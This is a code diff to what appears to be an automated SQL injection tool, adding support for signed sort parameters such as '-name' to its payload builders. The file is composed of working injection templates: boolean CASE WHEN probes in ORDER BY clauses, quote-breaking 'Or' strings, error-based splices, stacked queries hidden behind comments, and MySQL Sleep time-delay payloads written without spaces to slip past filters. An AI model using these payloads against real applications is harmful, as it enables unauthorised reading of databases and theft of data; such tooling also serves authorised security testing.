@@ -78,7 +78,7 @@ export const BOUNDARIES: readonly Boundary[] = [
     kind: 'narrows',
     with: (v, p) => `${v},(Select(Case/**/When(${p})Then(1)Else(Select 1 Union Select ${OVERFLOW})End))`,
   },
-  { name: 'order by expression', fits: 'name', kind: 'narrows', with: (v, p) => `(Case/**/When(${p})Then(${v})End)` },
+  { name: 'order by expression', fits: 'name', kind: 'narrows', with: (v, p) => chosenWhere(v, p) },
   // In front of another condition, a password that is compared behind the name: what holds so holds for more rows than behind the next two.
   { name: WHATEVER_FOLLOWS, fits: 'text', kind: 'widens', with: (v, p) => `${v}'Or(${p})Or'q'='p` },
   {
@@ -111,6 +111,13 @@ export const BOUNDARIES: readonly Boundary[] = [
 /** Turned round, which no other language reads so. */
 export const turned = (v: string): string => `${v}/**/Desc`
 
+/** `-name`: many programs take the sign off and turn the order round (JSON:API, "Sorting"); what stands behind it goes into the statement. */
+const signed = (v: string, expression: (name: string) => string): string => {
+  const sign = /^[-+](?=[A-Za-z_])/.exec(v)?.[0] ?? ''
+  return `${sign}${expression(v.slice(sign.length))}`
+}
+const chosenWhere = (v: string, p: string): string => signed(v, (name) => `(Case/**/When(${p})Then(${name})End)`)
+
 /** What rows are ordered by where the predicate holds, and nothing where it does not; turned round for what fails with the usual order. */
 export const ORDERINGS: readonly {
   readonly name: string
@@ -118,8 +125,8 @@ export const ORDERINGS: readonly {
   readonly like: (v: string) => string
   readonly with: (v: string, predicate: string) => string
 }[] = [
-  { name: 'order of rows', like: (v) => v, with: (v, p) => `(Case/**/When(${p})Then(${v})End)` },
-  { name: 'order of rows, turned round', like: turned, with: (v, p) => turned(`(Case/**/When(${p})Then(${v})End)`) },
+  { name: 'order of rows', like: (v) => v, with: chosenWhere },
+  { name: 'order of rows, turned round', like: turned, with: (v, p) => turned(chosenWhere(v, p)) },
 ]
 
 /** The database shows the product of two numbers within an error text. `open` and `close` come from the context. */
@@ -162,7 +169,7 @@ export const SPLICES: readonly Splice[] = [
   },
   { name: 'text in "', fits: 'text', dbms: ['MySQL', 'SQLite'], with: (v, e) => `${v}"And(${e})And"z` },
   { name: 'order', fits: 'order', dbms: null, with: (v, e) => `${v},(${e})` },
-  { name: 'name', fits: 'name', dbms: null, with: (_v, e) => `(${e})` },
+  { name: 'name', fits: 'name', dbms: null, with: (v, e) => signed(v, () => `(${e})`) },
   { name: 'limit', fits: 'number', dbms: ['MySQL'], with: (v, e) => `${v}/**/Procedure/**/Analyse(${e},1)` },
 ]
 
@@ -194,7 +201,7 @@ const BARE = ['number', 'name'] as const
 const number = (v: string): string => (/^-?\d+(\.\d+)?$/.test(v) ? v : '1')
 /** Behind a number the comment hides the first of the two, behind text the line comment hides the second. */
 const followed = (v: string, statement: string): string => `${number(v)}/*';${statement}-- */;${statement}-- -`
-export const isName = (v: string): boolean => /^[A-Za-z_][\w.]{0,40}$/.test(v)
+export const isName = (v: string): boolean => /^[-+]?[A-Za-z_][\w.]{0,40}$/.test(v)
 /** Without spaces, which filters refuse where nothing else shows. */
 const mysql = (s: string): string => `(Select(0)From(Select(Sleep(${s})))x)`
 
